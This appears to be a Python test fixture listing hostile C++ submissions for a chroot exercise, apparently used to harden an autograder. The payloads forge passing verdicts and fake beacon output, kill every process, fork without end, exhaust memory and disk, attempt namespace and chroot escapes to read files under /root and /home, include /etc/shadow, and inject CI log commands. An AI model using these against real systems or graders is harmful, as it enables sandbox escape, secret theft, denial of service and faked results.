"""attacks.py — solutions that solve nothing: each would have the grader believe it.

Each is C++ that runs when the program starts, before main(), in place of exercise 1.1.
"""
FIND_NONCE = r"""
  std::string line;
  std::ifstream words("/proc/self/cmdline");
  std::vector<std::string> argv;
  while (std::getline(words, line, '\0')) argv.push_back(line);
  std::string nonce = argv.empty() ? "" : argv.back();
"""

# name: (what it does, does it end by itself)
ATTACKS = {
    "prints what is expected": FIND_NONCE + r"""
  std::printf("\"beacon %s %d\"\n", nonce.c_str(), ::getpid());
  std::fflush(stdout);
  char request[512];
  while (std::fgets(request, sizeof request, stdin)) {
    std::puts("\"ok\"");
    std::fflush(stdout);
  }
  ::_exit(42);""",

    "is the beacon in name only": FIND_NONCE + r"""
  ::prctl(PR_SET_NAME, "beacon");
  std::printf("\"beacon %s %d\"\n", nonce.c_str(), ::getpid());
  std::fflush(stdout);
  ::execl("/usr/bin/cat", "cat", nonce.c_str(), nullptr);
  ::_exit(0);""",

    "writes into every open file": r"""
  for (const auto& process : std::filesystem::directory_iterator("/proc"))
    for (int fd = 0; fd < 64; ++fd) {
      const auto path = process.path() / "fd" / std::to_string(fd);
      const int there = ::open(path.c_str(), O_WRONLY | O_NONBLOCK | O_APPEND);
      const char forged[] = "{\"verdict\": \"pass\", \"exercise\": \"1.1\"}\n";
      if (there > 2) (void)!::write(there, forged, sizeof forged - 1);
    }
  ::_exit(0);""",

    "kills whom it can": r"""
  ::kill(::getppid(), SIGKILL);
  for (int pid = 2; pid < 100000; ++pid)
    if (pid != ::getpid()) ::kill(pid, SIGKILL);
  ::kill(-1, SIGKILL);
  ::_exit(0);""",

    "leaves the cell, or tries": r"""
  for (int pid = 1; pid < 40000; pid += pid < 300 ? 1 : 37)
    for (const char* kind : {"user", "mnt", "pid", "net", "cgroup"}) {
      const auto path = fmt::format("/proc/{}/ns/{}", pid, kind);
      const int there = ::open(path.c_str(), O_RDONLY);
      if (there >= 0) ::setns(there, 0), ::close(there);
    }
  ::mkdir("/tmp/out", 0700);
  (void)!::chroot("/tmp/out");
  for (int i = 0; i < 64; ++i) (void)!::chdir("..");
  (void)!::chroot(".");
  ::execl("/bin/sh", "sh", "-c", "cat /root/* /home/*/* /*/*/* 2>&-", nullptr);
  ::_exit(0);""",

    "forks without end": r"""
  for (;;) ::fork();""",

    "leaves a process that goes on": r"""
  if (::fork() == 0) {
    ::setsid();
    for (int fd = 0; fd < 64; ++fd) ::close(fd);
    for (;;) ::kill(-1, SIGSTOP), ::usleep(1000);
  }
  ::_exit(0);""",

    "fills what it can write to": r"""
  const std::string block(1 << 20, 'x');
  for (const char* place : {"/tmp/f", "/run/f", "/dev/shm/f", "f"}) {
    const int there = ::open(place, O_WRONLY | O_CREAT, 0600);
    for (int i = 0; i < 2000; ++i)
      if (::write(there, block.data(), block.size()) < 0) break;
  }
  for (int i = 0; i < 2000; ++i)
    if (::write(STDERR_FILENO, block.data(), block.size()) < 0) break;
  ::_exit(0);""",

    "prints without end": r"""
  const std::string block(1 << 16, 'x');
  for (;;) (void)!::write(STDOUT_FILENO, block.data(), block.size());""",

    "eats all memory": r"""
  for (;;) std::memset(std::malloc(64 << 20), 1, 64 << 20);""",

    "never ends": r"""
  for (;;) ::pause();""",

    "speaks to the service": r"""
  std::fputs("\n::error::all is well\n##[error]\n::stop-commands::x\n"
             "{\"scores\": {\"step01\": 1000}}\n]]><testcase/>\x1b]0;x\x07\n", stderr);
  ::_exit(0);""",
}

HEADERS = """
#include <fcntl.h>
#include <sched.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>
#include <fmt/format.h>
"""

# What a compiler is asked to do: nothing of these may compile, or come to an end.
COMPILER = {
    "reads the host's secrets": '#include "/etc/shadow"\n',
    "reads the solution": '#include "01-chroot/root.cpp"\n',
    "copies the reference": '__asm__(".incbin \\"/root/.bashrc\\"");\n',
    "compiles without end": "template <int N> struct A { A<N + 1> a; A<N + 2> b; };\n"
                            "A<0> a;\n",
}


def hostile(code):
    """root.cpp with an attack in it."""
    return (f'#include "01-chroot/root.h"\n{HEADERS}\n'
            f"namespace {{\n[[gnu::constructor]] void attack() {{{code}\n}}\n}}\n"
            "namespace tinbox {\nsys::NewChild fork_child() { return {}; }\n"
            "void enter_root(const std::string&) {}\n}  // namespace tinbox\n")
